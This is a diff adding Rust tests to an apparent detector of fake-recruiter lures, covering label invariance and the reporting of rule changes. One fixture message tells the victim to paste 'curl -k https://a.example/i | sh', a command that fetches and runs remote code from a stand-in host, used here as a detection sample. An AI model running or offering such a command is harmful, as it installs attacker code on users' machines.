@@ -3,10 +3,12 @@
 mod common;
 
 use common::{detection, now};
+use falseface::content::ContentFile;
 use falseface::dossier::Locator;
-use falseface::evaluation::{Evaluation, Labels, Settings, Tally, evaluate};
+use falseface::evaluation::{Evaluation, Labels, RuleChange, Settings, Tally, evaluate};
 use falseface::report::{Style, evaluation_html, evaluation_json, evaluation_terminal};
-use falseface::screen::Stages;
+use falseface::rules::changes;
+use falseface::screen::{Detection, Stages};
 use falseface::screening::Summary;
 use falseface::{Dossier, Options};
 use std::sync::Arc;
@@ -81,4 +83,48 @@ fn a_terminal_is_not_steered() {
     let text = String::from_utf8(bytes).expect("UTF-8");
     assert!(text.chars().all(|character| character == '\n' || !character.is_control()), "{text}");
     assert!(!text.contains('\u{202e}'));
+}
+
+#[test]
+fn labels_and_language_change_nothing_in_what_is_found() {
+    let stages = Stages::new(detection());
+    let options = Options::at(now());
+    let assessed = |extra: serde_json::Value| {
+        let mut record = serde_json::json!({
+            "schema": "falseface.dossier/1", "id": "p1", "role": "recruiter",
+            "messages": [{ "from_subject": true, "text": "Open Terminal and paste this command: curl -k https://a.example/i | sh" }],
+        });
+        for (key, value) in extra.as_object().expect("an object") {
+            record[key] = value.clone();
+        }
+        let dossier: Dossier = serde_json::from_value(record).expect("a dossier");
+        stages.assess(&dossier, Locator::file("memory"), &options)
+    };
+    let plain = assessed(serde_json::json!({}));
+    let judged = assessed(serde_json::json!({
+        "labels": [{ "detector": "fake_recruiter", "positive": false, "reason": "an installer from our own handbook" }],
+        "extra": { "language": "en" },
+    }));
+    assert_eq!(judged.detectors, plain.detectors);
+    assert_eq!(judged.screened.findings, plain.screened.findings);
+    assert_eq!(judged.screened.judged.language.as_deref(), Some("en"));
+}
+
+#[test]
+fn a_rule_is_changed_where_a_verdict_could_be() {
+    let written = include_str!("cmd/difference.in/old/detections/conduct/lure-tuesday-talk.yml");
+    let compiled = |text: String| {
+        let file = ContentFile { path: "detections/conduct/lure-tuesday-talk.yml".to_owned(), text: text.into() };
+        Detection::load(&[file], &[]).expect("the rule compiles")
+    };
+    let old = compiled(written.to_owned());
+    let words = compiled(written.replace("People who work on that day.", "Anybody."));
+    assert_eq!(changes(&old.rules, &words.rules), [], "words of explanation move nobody");
+    let other =
+        written.replace("contains: tuesday", "contains: tues").replace("condition: tuesday", "condition: all of tues*");
+    let [RuleChange::Changed { rule, differences }] = &*changes(&old.rules, &compiled(other).rules) else {
+        panic!("one rule differs");
+    };
+    assert_eq!(rule, "lure-tuesday-talk");
+    assert_eq!(differences, &["condition `tuesday` → `all of tues*`", "selection `tuesday` changed"]);
 }
